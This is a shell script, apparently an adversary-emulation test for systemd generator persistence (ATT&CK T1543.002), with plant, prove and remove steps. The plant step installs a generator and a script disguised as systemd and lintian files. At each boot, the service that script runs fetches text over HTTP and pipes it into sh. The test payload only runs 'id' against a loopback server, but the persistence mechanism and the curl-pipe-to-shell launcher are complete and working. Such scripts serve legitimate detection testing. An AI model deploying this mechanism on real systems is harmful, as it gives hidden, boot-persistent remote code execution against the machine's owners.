#!/bin/sh
# T1543.002 (quiet): A generator writes a unit into memory at boot and at each reload
M=/var/tmp/luytre-foothold N=07-generator
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
serve() { # a page on loopback whose text writes the marker
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(f"id > {sys.argv[2]}; chmod 666 {sys.argv[2]}\n".encode())
s = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H); s.timeout = 75; s.handle_request()
END
  sleep 0.4; }
plant() {
  x /etc/systemd/system-generators/systemd-rc-local-compat <<'E'
#!/bin/sh
mkdir -p "$1/multi-user.target.wants"
printf '[Service]\nType=oneshot\nExecStart=/usr/share/lintian/compat\n' >"$1/rc-compat.service"
ln -sf ../rc-compat.service "$1/multi-user.target.wants/rc-compat.service"
E
  x /usr/share/lintian/compat <<'E'
#!/bin/sh
(curl -fsSL http://127.0.0.1:47007/s || wget -qO- http://127.0.0.1:47007/s || python3 -c 'import urllib.request as u;print(u.urlopen("http://127.0.0.1:47007/s").read().decode())') | sh
E
  systemctl daemon-reload
}
prove() {
  rm -f "$M/$N"
  serve 47007
  systemctl start rc-compat.service
  seen
}
remove() {
  rm -f /etc/systemd/system-generators/systemd-rc-local-compat /usr/share/lintian/compat; rmdir /etc/systemd/system-generators 2>/dev/null; systemctl daemon-reload
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
